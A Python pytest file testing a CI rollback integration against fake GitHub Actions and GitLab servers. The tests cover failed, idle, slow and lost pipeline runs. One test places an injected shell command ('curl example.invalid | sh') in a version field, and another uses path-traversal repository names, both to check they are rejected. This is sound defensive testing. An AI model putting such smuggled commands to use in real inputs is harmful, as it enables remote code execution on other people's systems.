"""GitHub Actions and GitLab pipelines, against stand-ins whose runs roll the system back."""

from collections.abc import Callable
from typing import Any

import pytest
from rollback_contract import Contract, Lever, planned
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from integrations.errors import OutsideServiceError
from integrations.rollback import pipeline
from integrations.rollback.base import TargetError


class Pipelines(Lever):
    """A CI system. Runs take `polls` looks, end as `ending`, and set the version unless `idle`."""

    before, after, newer = "v2", "v1", "v3"

    def __init__(self, system: Any, token: str) -> None:
        self.system, self.token = system, token
        self.runs: list[dict[str, Any]] = []
        self.polls, self.ending, self.idle, self.hidden = 2, "success", False, False
        self.tells_id = True

    def value(self) -> str:
        return str(self.system.version)

    def move(self, value: str) -> None:
        self.system.version = value

    def changes(self) -> int:
        return len([run for run in self.runs if run["key"].startswith("rollback-1-")])

    def lose(self) -> None:
        self.served.losing = 1

    def refuse(self, status: int, headers: dict[str, str]) -> None:
        self.served.refusing = [(status, headers)]

    def _begin(self, key: str, before: str, after: str) -> dict[str, Any]:
        assert self.system.version == before, "the pipeline checks again"
        run = {"id": 500 + len(self.runs), "key": key, "to": after, "left": self.polls}
        self.runs.append(run)
        if self.polls == 0:
            self._end(run)
        return run

    def _look(self, run: dict[str, Any]) -> None:
        run["left"] -= 1
        if run["left"] == 0:
            self._end(run)

    def _end(self, run: dict[str, Any]) -> None:
        if self.ending == "success" and not self.idle:
            self.system.version = run["to"]


class GitHub(Pipelines):
    def __init__(self, serve: Callable[[Any], Any], system: Any, token: str) -> None:
        super().__init__(system, token)
        self.active = "active"
        base = "/repos/shop/assistant/actions"
        self.served = serve(
            Starlette(
                routes=[
                    Route(f"{base}/workflows/rollback.yml", self._workflow),
                    Route(f"{base}/workflows/rollback.yml/runs", self._list),
                    Route(f"{base}/workflows/rollback.yml/dispatches", self._dispatch, methods=["POST"]),
                    Route(f"{base}/runs/{{id:int}}", self._run),
                ]
            )
        )

    def entry(self) -> dict[str, Any]:
        return {
            "id": "pipeline",
            "kind": "github",
            "url": self.served.url,
            "allow_private": True,
            "token_env": "LEVER_TOKEN",
            "repository": "shop/assistant",
            "workflow": "rollback.yml",
            "ref": "main",
            "to": "v1",
            **self.system.fields,
        }

    async def _workflow(self, request: Request) -> JSONResponse:
        if request.headers.get("authorization") != f"Bearer {self.token}":
            return JSONResponse({"message": "Bad credentials"}, 401)
        return JSONResponse({"id": 1, "name": "Roll back", "path": "rollback.yml", "state": self.active})

    async def _list(self, request: Request) -> JSONResponse:
        assert request.query_params["event"] == "workflow_dispatch"
        shown = [] if self.hidden else [self._shown(run) for run in reversed(self.runs)]
        return JSONResponse({"workflow_runs": shown})

    async def _dispatch(self, request: Request) -> Response:
        assert request.headers["x-github-api-version"]
        body = await request.json()
        assert body["ref"] == "main"
        assert set(body["inputs"]) == {"key", "from", "to"}
        run = self._begin(body["inputs"]["key"], body["inputs"]["from"], body["inputs"]["to"])
        if not self.tells_id:
            return Response(status_code=204)
        return JSONResponse({"workflow_run_id": run["id"], "html_url": f"https://example.invalid/{run['id']}"})

    async def _run(self, request: Request) -> JSONResponse:
        run = next(run for run in self.runs if run["id"] == request.path_params["id"])
        self._look(run)
        return JSONResponse(self._shown(run))

    def _shown(self, run: dict[str, Any]) -> dict[str, Any]:
        ended = run["left"] <= 0
        return {
            "id": run["id"],
            "name": "Roll back",
            "display_title": f"rollback {run['key']}",
            "status": "completed" if ended else "in_progress",
            "conclusion": self.ending if ended else None,
            "html_url": f"https://example.invalid/{run['id']}",
        }


class GitLab(Pipelines):
    def __init__(self, serve: Callable[[Any], Any], system: Any, token: str) -> None:
        super().__init__(system, token)
        # The server decodes %2F before it looks for a route.
        base = "/api/v4/projects/shop/assistant"
        self.served = serve(
            Starlette(
                routes=[
                    Route(f"{base}/repository/commits/main", self._commit),
                    Route(f"{base}/pipelines", self._list),
                    Route(f"{base}/pipeline", self._create, methods=["POST"]),
                    Route(f"{base}/pipelines/{{id:int}}", self._run),
                ]
            )
        )

    def entry(self) -> dict[str, Any]:
        return {
            "id": "pipeline",
            "kind": "gitlab",
            "url": self.served.url,
            "allow_private": True,
            "token_env": "LEVER_TOKEN",
            "project": "shop/assistant",
            "ref": "main",
            "to": "v1",
            **self.system.fields,
        }

    async def _commit(self, request: Request) -> JSONResponse:
        assert b"shop%2Fassistant" in request.scope["raw_path"]
        if request.headers.get("authorization") != f"Bearer {self.token}":
            return JSONResponse({"message": "401 Unauthorized"}, 401)
        return JSONResponse({"id": "c" * 40, "title": "A commit"})

    async def _list(self, request: Request) -> JSONResponse:
        name = request.query_params["name"]
        shown = [] if self.hidden else [self._shown(run) for run in reversed(self.runs)]
        return JSONResponse([run for run in shown if run["name"] == name])

    async def _create(self, request: Request) -> JSONResponse:
        body = await request.json()
        given = {one["key"]: one["value"] for one in body["variables"]}
        run = self._begin(given["RAI_INCIDENT_KEY"], given["RAI_INCIDENT_FROM"], given["RAI_INCIDENT_TO"])
        return JSONResponse(self._shown(run), 201)

    async def _run(self, request: Request) -> JSONResponse:
        run = next(run for run in self.runs if run["id"] == request.path_params["id"])
        self._look(run)
        return JSONResponse(self._shown(run))

    def _shown(self, run: dict[str, Any]) -> dict[str, Any]:
        status = ("success" if self.ending == "success" else "failed") if run["left"] <= 0 else "running"
        return {
            "id": run["id"],
            "name": f"rai-incident {run['key']}",
            "status": status,
            "web_url": f"https://example.invalid/{run['id']}",
        }


class TestGitHub(Contract):
    @pytest.fixture
    def lever(self, serve: Any, system: Any, token: str) -> GitHub:
        return GitHub(serve, system, token)


class TestGitLab(Contract):
    @pytest.fixture
    def lever(self, serve: Any, system: Any, token: str) -> GitLab:
        return GitLab(serve, system, token)


@pytest.fixture(params=[GitHub, GitLab])
def ci(request: pytest.FixtureRequest, serve: Any, system: Any, token: str) -> Pipelines:
    made: Pipelines = request.param(serve, system, token)
    return made


@pytest.fixture
def github(serve: Any, system: Any, token: str) -> GitHub:
    return GitHub(serve, system, token)


def test_a_run_that_fails_says_so_with_its_address(ci):
    ci.ending = "failure"
    target = ci.target()
    with pytest.raises(OutsideServiceError, match=r"ended as (failure|failed): https://example\.invalid/500") as caught:
        target.execute(planned(target), "rollback-1-aa")
    assert caught.value.permanent
    assert ci.value() == "v2"


def test_a_failed_run_is_not_started_again_by_a_retry(ci):
    ci.ending = "failure"
    target = ci.target()
    plan = planned(target)
    for _ in range(2):
        with pytest.raises(OutsideServiceError):
            target.execute(plan, "rollback-1-aa")
    assert len(ci.runs) == 1


def test_a_run_that_says_success_but_changed_nothing_is_not_verified(ci):
    ci.idle = True
    target = ci.target()
    plan = planned(target)
    target.execute(plan, "rollback-1-aa")
    seen = target.verify(plan)
    assert not seen.ok
    assert "version is v2" in seen.seen


def test_a_long_run_is_looked_at_again_later_and_not_started_twice(ci, monkeypatch):
    monkeypatch.setattr(pipeline, "FOLLOW_SECONDS", 0.0)
    ci.polls = 3
    target = ci.target()
    plan = planned(target)
    with pytest.raises(OutsideServiceError, match="still") as caught:
        target.execute(plan, "rollback-1-aa")
    assert not caught.value.permanent
    assert caught.value.retry_after
    monkeypatch.setattr(pipeline, "FOLLOW_SECONDS", 5.0)
    outcome = target.execute(plan, "rollback-1-aa")
    assert not outcome.changed
    assert ci.value() == "v1"
    assert len(ci.runs) == 1


def test_a_run_that_never_shows_after_a_lost_answer_is_left_to_a_person(ci):
    target = ci.target()
    plan = planned(target)
    ci.served.losing, ci.hidden = 1, True
    with pytest.raises(OutsideServiceError, match="Look there before you plan again") as caught:
        target.execute(plan, "rollback-1-aa")
    assert caught.value.permanent
    assert len(ci.runs) == 1


def test_an_older_github_that_does_not_tell_the_run_is_searched_for_it(github):
    github.tells_id = False
    target = github.target()
    plan = planned(target)
    assert target.execute(plan, "rollback-1-aa").changed
    assert github.value() == "v1"


def test_another_rollbacks_run_is_not_taken_for_ours(ci):
    target = ci.target()
    plan = planned(target)
    ci.runs.append({"id": 400, "key": "rollback-1-aab", "to": "v1", "left": 0})
    assert target.execute(plan, "rollback-1-aa").changed


def test_a_disabled_workflow_is_refused_in_the_plan(github):
    github.active = "disabled_manually"
    with pytest.raises(TargetError, match="disabled_manually"):
        planned(github.target())


def test_a_version_that_could_be_a_script_is_not_sent(ci):
    ci.system.version = "v2; curl example.invalid | sh"
    target = ci.target()
    with pytest.raises(TargetError, match="plain versions"):
        planned(target)


def test_without_the_systems_own_word_there_is_no_pipeline_target(ci):
    with pytest.raises(TargetError, match="verify_url and verify_field are missing"):
        ci.target(verify_url=None, verify_field=None)


@pytest.mark.parametrize("repository", ["assistant", "shop/", "shop/../x", "../x", "shop/assistant/x"])
def test_a_repository_is_owner_and_name(github, repository):
    with pytest.raises(TargetError, match="owner/name"):
        github.target(repository=repository)
